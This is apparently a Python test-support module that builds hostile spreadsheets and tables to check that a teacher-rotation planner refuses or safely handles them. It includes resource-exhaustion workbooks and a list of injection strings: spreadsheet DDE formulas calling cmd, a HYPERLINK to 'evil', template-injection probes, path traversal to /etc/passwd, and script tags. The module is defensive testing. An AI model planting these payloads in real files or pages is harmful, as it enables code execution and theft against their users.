"""Hostile workbooks and tables for `benchmarks.hostile`: those of the tests, and what only a whole command shows."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path

from rotation.domain.months import Month
from rotation.domain.problem import Problem
from rotation.domain.records import Distance, Lock
from rotation.domain.vocabulary import LockKind
from rotation.workbook.checks import MOST_SCHOOLS
from rotation.workbook.template import write_input
from tests.support import gallery
from tests.support import hostile_book as bare
from tests.support.foul_text import HOSTILE
from tests.support.hostile.ground import Case, Here, Words, one
from tests.support.hostile_tables import OLD, OPEN, TEXTS, spoiled_old, typed
from tests.support.other_files import ods_of
from tests.support.small_banner import small_banner

REFUSED, NO_PLAN = (3,), (4,)
"""The sound workbook of the tests is read, and has no plan."""
STOPS = ("error", "ask")
Parts = dict[str, str | bytes]


def checked(build: Callable[[Path], Path]) -> Callable[[Here], list[Words]]:
    """Return the recipe that checks a workbook, which writes the marked copy too."""
    return one(lambda here: ["check", build(here.folder)])


def planned(build: Callable[[Path], Path]) -> Callable[[Here], list[Words]]:
    """Return the recipe that plans from a workbook."""
    return one(lambda here: ["plan", build(here.folder), "-o", here.out])


def saved(make: Callable[[], Parts | bytes]) -> Callable[[Path], Path]:
    """Return what writes the parts of a package."""
    return lambda folder: bare.saved(folder, make())


# -- workbooks of the tests -------------------------------------------------------------------------------


def _gallery() -> Iterator[Case]:
    for kind, table in (("files that are no sound workbook", gallery.FILES), ("layouts", gallery.LAYOUTS),
                        ("cells", gallery.CELLS), ("facts that contradict", gallery.FACTS)):
        for name, (build, _, severity, _) in table.items():
            yield Case(kind, name, checked(build), REFUSED if severity in STOPS else (0,))


def _packages() -> Iterator[Case]:
    for part in bare.PARTS:
        for how in bare.BENT:
            made = saved(lambda part=part, how=how: bare.bent(part, how))
            yield Case("a part of the package bent", f"{part}: {how}", checked(made), REFUSED)
    for name, (make, _, _) in bare.WHOLE.items():
        yield Case("wrong packages", name, checked(saved(make)), REFUSED)


def _one_wrong(make: Callable[[], Parts]) -> Callable[[], Parts]:
    """Return the same workbook with one cell that must be marked."""
    def made() -> Parts:
        parts = make()
        text = parts[bare.TEACHERS]
        assert ">女<" in text
        return parts | {bare.TEACHERS: text.replace(">女<", ">保密<", 1)}
    return made


def _heavy() -> Iterator[Case]:
    kind = "small workbooks that cost much"
    for name, (build, _, _, _) in gallery.BOMBS.items():
        yield Case(kind, name, checked(build), REFUSED)
    for name, (make, _, _) in (bare.HEAVY | {name: (make, "", "") for name, make in _BOMBS.items()}).items():
        yield Case(kind, name, checked(saved(make)), REFUSED)
    for name, make in _SOUND.items():
        yield Case("heavy but sound workbooks", name, checked(saved(make)), (0,))
        yield Case("heavy but sound workbooks", f"{name}, planned", planned(saved(make)), NO_PLAN, plans=2)  # and the draft
        yield Case("heavy workbooks with one wrong cell", name, checked(saved(_one_wrong(make))), REFUSED)


def _schools(count: int) -> Parts:
    return _rows(count - len(gallery.SCHOOLS) + 1, "学校", lambda n: [
        f"S{n}x", f"第{n}校", None, *gallery.SCHOOLS[1][3:7], 116 + n % 100 / 50, 44 + n // 100 / 500, *gallery.SCHOOLS[1][9:]])


_SOUND: dict[str, Callable[[], Parts]] = bare.LIGHT | {"as many schools as may be": lambda: _schools(MOST_SCHOOLS)}
"""Heavy, but nothing is wrong with them."""


def _rows(count: int, sheet: str, line: Callable[[int], list[object]]) -> Parts:
    sheets = bare.rows()
    return bare.parts(sheets | {sheet: sheets[sheet] + [line(n) for n in range(count)]})


_BOMBS: dict[str, Callable[[], Parts]] = {
    "20,000 schools": lambda: _schools(20_000), "a school too many": lambda: _schools(MOST_SCHOOLS + 1),
    "three million styles": lambda: bare.style_of('<xf numFmtId="0"/>' * 3_000_000),
    "thirty million shared strings": lambda: bare.changed(
        bare.RELATIONS, "</Relationships>", f'<Relationship Id="t" Type="{bare.KINDS}/sharedStrings" Target="sharedStrings.xml"/>'
        "</Relationships>") | {"xl/sharedStrings.xml": f'<sst xmlns="{bare.MAIN}">{"<si/>" * 30_000_000}</sst>'},
    "two million lists of hidden columns": lambda: bare.changed(
        bare.SCHOOLS, "<sheetData>", "<cols>" + '<col hidden="1" min="9" max="9"/>' * 2_000_000 + "</cols><sheetData>"),
    "one part shown as fifty sheets": lambda: _shown_often(50),
    "five million elements in each other": lambda: bare.around(bare.SCHOOLS, "<a>" * 5_000_000 + "</a>" * 5_000_000),
    "an element of a million attributes": lambda: bare.around(
        bare.SCHOOLS, "<a " + " ".join(f'b{n}=""' for n in range(1_000_000)) + "/>"),
    "16,000 columns with titles": lambda: _wide(range(16_000), "列{}"),
    "800 columns of one title": lambda: _wide(range(800), "姓名"),
    "50,000 merged pairs and a wrong cell": _one_wrong(lambda: bare.around(bare.SCHOOLS, "<mergeCells>" + "".join(
        f'<mergeCell ref="AZ{n}:BA{n}"/>' for n in range(20, 50_020)) + "</mergeCells>")),
    "a million empty rows and a wrong cell": _one_wrong(lambda: bare.within(bare.SCHOOLS, "".join(
        f'<row r="{n}" ht="20"/>' for n in range(20, 1_048_577)))),
    "200,000 formats on condition and a wrong cell": _one_wrong(lambda: bare.around(bare.SCHOOLS, "".join(
        f'<conditionalFormatting sqref="A{n}"><cfRule type="expression" priority="{n}"><formula>1</formula></cfRule>'
        "</conditionalFormatting>" for n in range(1, 200_001)))),
    "a hundred thousand styles": lambda: bare.style_of('<xf numFmtId="0" applyFont="1"/>' * 100_000),
    "100,000 teachers": lambda: _rows(100_000, "教师", lambda n: [f"U{n}", f"师{n}", *gallery.TEACHERS[1][2:]]),
    "100,000 teachers, each with a wrong cell": lambda: _rows(
        100_000, "教师", lambda n: [f"U{n}", f"师{n}", "无", *gallery.TEACHERS[1][3:]]),
    "500 schools of one name, 500 teachers there": lambda: _namesakes(500),
}


def _shown_often(count: int) -> Parts:
    rows = "".join(f'<row r="{n}">' + "<c><v>1</v></c>" * 100 + "</row>" for n in range(10, 10_000))
    made = bare.changed(bare.BOOK, "</sheets>", "".join(
        f'<sheet name="s{n}" sheetId="{n}" r:id="x{n}"/>' for n in range(100, 100 + count)) + "</sheets>")
    more = "".join(f'<Relationship Id="x{n}" Type="{bare.KINDS}/worksheet" Target="worksheets/sheet99.xml"/>'
                   for n in range(100, 100 + count))
    made[bare.RELATIONS] = made[bare.RELATIONS].replace("</Relationships>", more + "</Relationships>")
    return made | {"xl/worksheets/sheet99.xml": f'<worksheet xmlns="{bare.MAIN}"><sheetData>{rows}</sheetData></worksheet>'}


def _wide(numbers: range, title: str) -> Parts:
    sheets = bare.rows()
    sheets["教师"][0] += [title.format(n) for n in numbers]
    return bare.parts(sheets)


def _namesakes(count: int) -> Parts:
    sheets = bare.rows()
    sheets["学校"] += [[f"S{n}x", "同名学校", *gallery.SCHOOLS[1][2:]] for n in range(count)]
    teacher = gallery.TEACHERS[1]
    sheets["教师"] += [[f"U{n}", "同名", *teacher[2:4], "同名学校", *teacher[5:]] for n in range(count)]
    return bare.parts(sheets)


def _cells() -> Iterator[Case]:
    """Yield every odd value once, in all columns that must not take it."""
    for table in (bare.MONTHS, bare.NUMBERS, bare.WORDS, bare.KEYS, bare.NAMES):
        columns: dict[object, list[tuple[str, str]]] = {}
        for sheet, title, value in table:
            columns.setdefault((type(value), value), []).append((sheet, title))
        for (_, value), places in columns.items():
            build = saved(lambda value=value, places=tuple(places): bare.with_cells(value, places)[0])
            yield Case("odd values in cells", f"{places[0][1]}: {str(value)[:40]}", planned(build), REFUSED)
    for one_id, other in (("k", "\u212a"), ("t1", "T1"), ("T1", "Ｔ１"), ("T1", "T1\u200b"), ("T1", "T1\u00ad"),
                          ("T1", "T1\ufeff"), ("T1", "\u202dT1"), ("ss", "ß"), ("I", "ı"), ("Å", "A\u030a")):
        yield Case("ids that look alike", f"{one_id!a} and {other!a}", planned(saved(
            lambda ids=(one_id, other): _two_ids(*ids))), (*REFUSED, *NO_PLAN))  # refused, or told apart


def _two_ids(first: str, second: str) -> Parts:
    sheets = bare.rows()
    for row, name in ((1, first), (2, second)):
        bare.put(sheets, "教师", row, "教师编号", name)
    for sheet in ("意愿", "指定", "台账"):
        del sheets[sheet]
    return bare.parts(sheets)


def _tables() -> Iterator[Case]:
    for name, (content, _) in TEXTS.items():
        yield Case("tables of text", name, one(
            lambda here, content=content: ["check", here.text("学校.csv", content)]), REFUSED)
    for name, (tables, _) in OPEN.items():
        yield Case("OpenDocument", name, checked(
            lambda folder, tables=tables: ods_of(tables, folder / "数据.ods")), REFUSED)
    yield Case("OpenDocument", "a document type", checked(typed), REFUSED)
    for how in OLD:
        yield Case("workbooks of the old format", how, checked(lambda folder, how=how: spoiled_old(how, folder)), REFUSED)


# -- texts that would act -----------------------------------------------------------------------------------

TEXTS_THAT_ACT = {
    **{f"page {number}": text for number, text in enumerate(HOSTILE, 1)},
    "formula": '=HYPERLINK("http://evil/"&A1,"x")', "exchange of data": "=cmd|'/c calc'!A0", "plus": "+1+cmd|'/c calc'!A0",
    "minus": "-2+3", "at": "@SUM(1+1)", "template": "{{ 7*7 }}{{ cycler.__init__.__globals__ }}",
    "loop of a template": "{% for x in range(9) %}Q{% endfor %}", "places for values": "%s%n%(x)s{0}{name}",
    "end of a section": "]]><w:p/>&amp;&#x3c;", "full width": "＝１＋１", "backwards": "王\u202egnp.exe",
    "no width": "王\u200b\u2060芳", "joined signs": "👩‍🏫" * 5, "long": "长" * 95, "quotes": "'';--", "path": "../../../etc/passwd",
    "device": "C:\\CON\\aux.txt", "line": "王\u2028芳", "tag": "王\U000e0041芳", "unassigned": "\u0378芳", "colors": "甲[/red][link=http://evil]",
}
"""Names as anybody may type them into any free column; a public notice is not written where one looks like no name."""


def _foul(text: str) -> Problem:
    """Return the small banner with a text in every free column, kept apart where it must be."""
    told = small_banner("小旗")
    teachers = [replace(teacher, name=f"{text}{n}", grades=text, putonghua=text) for n, teacher in enumerate(told.teachers)]
    teachers[1] = replace(teachers[1], deferral=text, deferral_basis=text, deferral_approver=text, deferral_until=Month(2028, 8))
    schools = [replace(school, name=f"{text}{school.code}", short=f"{text}{n}", town=text, group=text)
               for n, school in enumerate(told.schools)]
    lock = Lock(teacher=teachers[3].id, kind=LockKind.STAY, reason=text, clerk=text)
    value = f"旗{text}" if text[0] in "{[" else text  # what begins so is a list in the sheet of parameters
    rows = [replace(row, value=value, basis=text) if row.name != "round.year" else row for row in told.parameters]
    return replace(told, teachers=tuple(teachers), schools=tuple(schools), locks=(lock,), parameters=tuple(rows))


def _through(here: Here, text: str) -> Iterator[Words]:
    write_input(here.folder / "数据.xlsx", _foul(text), "zh")
    yield ["plan", here.folder / "数据.xlsx", "-o", here.out]
    yield ["papers", next(here.out.glob("*"))]


def _acting() -> Iterator[Case]:
    for name, text in TEXTS_THAT_ACT.items():
        yield Case("texts that would act, planned and written as papers", name,
                   lambda here, text=text: _through(here, text), (0, 3))


def _far_home(folder: Path) -> Path:
    """Write the small banner with a home town that has no school, told by distances as the message asks."""
    told = small_banner("小旗")
    roads = [Distance(start="远镇", end=school.code, km=1_200) for school in told.schools]
    far = replace(told.teachers[0], home_town="远镇")
    write_input(folder / "数据.xlsx", replace(told, teachers=(far, *told.teachers[1:]), distances=tuple(roads)), "zh")
    return folder / "数据.xlsx"


def _eight(here: Here) -> Iterator[Words]:
    folder = here.folder / "盟"
    folder.mkdir()
    for name in ("<img src=x onerror=document.title='PWNED'>", "=cmd|'calc'!A0", "{{7*7}}", "a%s{0}#x?y&z", "' or 1", "..", ". ",
                 "CON"):
        write_input(folder / f"{name}.xlsx", _foul(name), "zh")
    yield ["batch", folder, "-o", here.out, "--league", "<script>document.title='PWNED'</script>"]


def cases() -> list[Case]:
    """Return all cases that are workbooks or tables."""
    return [*_gallery(), Case("facts that contradict", "a home town without a school, told by distances", checked(_far_home), (0,)),
            *_packages(), *_heavy(), *_cells(), *_tables(), *_acting(),
            Case("eight banners with hostile names, planned side by side", "all", _eight, (0,), plans=8)]
